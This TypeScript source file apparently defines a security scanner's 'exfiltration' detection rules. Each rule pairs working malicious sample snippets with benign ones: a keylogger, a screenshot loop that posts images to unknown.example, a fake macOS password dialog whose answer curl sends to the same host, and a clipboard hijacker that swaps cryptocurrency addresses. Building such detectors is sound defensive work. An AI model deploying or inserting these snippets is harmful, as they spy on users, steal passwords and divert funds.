import { surveillance } from "../../detectors/surveillance.ts";
import { defineRules } from "../../engine/define-rule.ts";
import { python } from "../../engine/rule-example.ts";
import { ignoreSamples } from "../../filters/ignore-samples.ts";

export const surveillanceRules = defineRules({
  family: "exfiltration",
  run: ignoreSamples(surveillance),
  rules: [
    {
      id: "exfiltration.records-keys",
      alias: "R05.records_keys",
      severity: "review",
      says: "It records what is typed.",
      falsePositive: "A tool for keyboard shortcuts.",
      bad: [
        python(
          "from pynput import keyboard\nwith keyboard.Listener(on_press=lambda k: open('k.log', 'a').write(str(k))) as l:\n    l.join()",
        ),
      ],
      good: [python("name = input('Name: ')\nprint(name)")],
    },
    {
      id: "exfiltration.records-screen",
      alias: "R05.records_screen",
      severity: "block",
      says: "It takes pictures of the screen again and again, or sends them away.",
      falsePositive: "A recorder that a person starts.",
      bad: [
        python(
          "import time, requests\nfrom PIL import ImageGrab\nwhile True:\n    ImageGrab.grab().save('s.png')\n    requests.post('https://unknown.example/x', data=open('s.png', 'rb').read())\n    time.sleep(30)",
        ),
      ],
      good: [python("from PIL import ImageGrab\nImageGrab.grab().save('s.png')")],
    },
    {
      id: "exfiltration.asks-for-password",
      alias: "R05.asks_for_password",
      severity: "review",
      says: "It asks for a password in a dialog of its own, and sends data to a stranger.",
      falsePositive: "A login form of a service that no page names.",
      bad: [
        'P=$(osascript -e \'display dialog "Password" default answer "" with hidden answer\')\ncurl -d "p=$P" https://unknown.example/x',
      ],
      good: ["osascript -e 'display dialog \"Done\"'"],
    },
    {
      id: "exfiltration.swaps-clipboard",
      alias: "R05.swaps_clipboard",
      severity: "review",
      says: "It replaces what a person has copied.",
      falsePositive: "A tool that cleans copied text; it says so.",
      bad: [
        python(
          "import pyperclip, re\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^(bc1|0x)[0-9a-zA-Z]{20,}$', t):\n        pyperclip.copy('bc1qunknown00000000000000000000')",
        ),
      ],
      good: [python("import pyperclip\npyperclip.copy('done')")],
    },
  ],
});
